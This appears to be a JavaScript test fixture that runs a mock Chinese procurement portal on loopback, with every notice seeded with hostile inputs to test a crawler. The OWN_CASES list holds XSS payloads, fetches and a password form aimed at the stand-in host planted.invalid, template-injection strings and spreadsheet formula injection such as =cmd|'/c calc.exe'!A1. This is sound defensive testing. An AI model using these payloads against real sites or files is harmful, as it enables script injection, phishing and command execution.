// A portal that is up to no good: every notice of it has a hostile text in its title, buyer, address, body, file names and links. It runs
// on loopback, and the real program crawls it. Whatever would run sets window.__planted, opens a dialog, or asks for planted.invalid.
import { createServer } from 'node:http';

const RUN = 'window.__planted=1';
export const OWN_CASES = [
  // Elements that run by being there.
  `<script>${RUN}</script>`,
  `</title></textarea></style></noscript><script>${RUN}</script>`,
  `<ScRiPt src=//planted.invalid/x.js></sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  // Attributes that run.
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  '<svg onload=window.__planted=1>',
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  // Addresses that run or fetch.
  `<a href="javascript:${RUN}">公告</a>`,
  `<a href="JaVa\tScRiPt:${RUN}">公告</a>`,
  `<iframe src="javascript:parent.__planted=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__planted=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.__planted=1</script>"></object>`,
  '<embed src="//planted.invalid/x.swf">',
  '<img src="//planted.invalid/seen.png">',
  '<meta http-equiv="refresh" content="0;url=//planted.invalid/">',
  '<base href="//planted.invalid/">',
  '<link rel="stylesheet" href="//planted.invalid/x.css">',
  '<form action="//planted.invalid/"><input name="password" autofocus></form>',
  // Styles that fetch, cover or hide.
  '<style>@import "//planted.invalid/x.css"; * { display: none }</style>',
  '<div style="position:fixed;inset:0;background:url(//planted.invalid/x.png);z-index:9999">盖住</div>',
  // What other layers could take for their own.
  "{{constructor.constructor('window.__planted=1')()}}",
  '${window.__planted=1}',
  '</script><script>window.__planted=1</script>',
  ']]><script>window.__planted=1</script>',
  '&lt;script&gt;window.__planted=1&lt;/script&gt;',
  '\\u003cscript\\u003ewindow.__planted=1\\u003c/script\\u003e',
  '@:app.name {app} | @.lower:(x)',
  '<mark id="e-title" data-evidence="title">假的标注</mark>',
  '<form id="app"><input name="innerHTML"><img name="getElementById"></form>',
  // Texts that break a layout.
  'W'.repeat(400),
  '无空格的很长很长的标题'.repeat(40),
  '\u202e\u2066gnp.exe\u2069\u202c反过来的字',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(40),
  '\u200b\u200d\ufeff'.repeat(80),
  '👨‍👩‍👧‍👦'.repeat(60),
  // Cells that a spreadsheet would run.
  "=cmd|'/c calc.exe'!A1",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

const text = (words) =>
  words.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const PAGE = 50;

// The notice of case `at`. Its words stand once as text and once as the markup that they are.
function notice(words, at, origin, day, until) {
  const title = `${words} 第${at}妇幼保健院妇幼健康信息系统采购项目公开招标公告`;
  return `<!doctype html><html><head><meta charset="utf-8"><title>${text(title)}</title></head><body>
<div class="wrap"><h1>${text(title)}</h1><p>发布时间：${day}</p><div class="content">
<p>项目编号：XS-${String(at).padStart(4, '0')}</p><p>项目名称：妇幼健康信息系统${text(words)}</p>
<p>预算金额：${100 + at}.00万元</p><p>提交投标文件截止时间：${until} 09时30分</p>
<p>采购人：青岚市第${at}妇幼保健院</p><p>采购人地址：青岚市${text(words)}</p>
<p>采购人联系人：${text(words).slice(0, 60)}</p><p>联系电话：0571-8555${String(1000 + at)}</p>
<p>采购需求：妇幼健康信息系统一套，含孕产妇保健信息管理系统、儿童保健系统。</p>
<div>${words}</div>
<p>附件：<a href="${origin}/files/${at}.pdf?name=${encodeURIComponent(words)}">${text(words)}.pdf</a>
<a href="${text(words)}">${text(words)}.docx</a></p>
</div></div></body></html>`;
}

const dayOf = (offset) => {
  const day = new Date(Date.now() + 8 * 3600_000 + offset * 86_400_000);
  return `${day.getUTCFullYear()}年${day.getUTCMonth() + 1}月${day.getUTCDate()}日`;
};

export class HostileSite {
  constructor(cases) {
    this.cases = cases;
  }

  async start() {
    this.server = createServer((request, answer) => {
      const { pathname } = new URL(request.url, 'http://portal');
      const list = /^\/list\/index(?:_(\d+))?\.htm$/.exec(pathname);
      const one = /^\/notice\/(\d+)\.html$/.exec(pathname);
      const body = list
        ? this.list(Number(list[1] ?? 0))
        : one && this.cases[Number(one[1])]
          ? this.page(Number(one[1]))
          : '';
      answer.writeHead(body ? 200 : 404, { 'Content-Type': 'text/html; charset=utf-8' });
      answer.end(body || '<html><body>没有</body></html>');
    });
    await new Promise((done) => this.server.listen(0, '127.0.0.1', done));
    this.origin = `http://127.0.0.1:${this.server.address().port}`;
  }

  // The words stand in the address as well.
  address(at) {
    return `/notice/${at}.html?from=${encodeURIComponent(this.cases[at])
      .slice(0, 600)
      .replace(/%[0-9A-F]?$/, '')}`;
  }

  list(page) {
    const items = this.cases
      .map((words, at) => ({ words, at }))
      .slice(page * PAGE, (page + 1) * PAGE)
      .map(
        ({ words, at }) =>
          `<li><a href="${text(this.address(at))}" title="${text(words)}">第${at}妇幼保健院妇幼健康信息系统采购公告 ${text(words)}</a>` +
          `<em>${new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10)}</em></li>`,
      );
    return `<html><body><ul class="list">${items.join('\n')}</ul></body></html>`;
  }

  page(at) {
    return notice(this.cases[at], at, this.origin, dayOf(0), dayOf(12));
  }

  // The source file by which it is crawled.
  source() {
    const host = this.origin.slice('http://'.length);
    return `sources:
  - id: hostile
    name: 青岚市政府采购网（模拟）
    every: 1h
    start: [${this.origin}/list/index.htm]
    paging: {kind: url_pattern, pattern: "index_{page}.htm", first: 1}
    list: {item: ul.list > li, link: a, title: a, date: em}
    politeness: {delay: 1ms, max_retries: 0, request_timeout: 10s}
    allowed_private_hosts: ["${host}"]
`;
  }

  end() {
    this.server?.closeAllConnections?.();
    this.server?.close();
  }
}
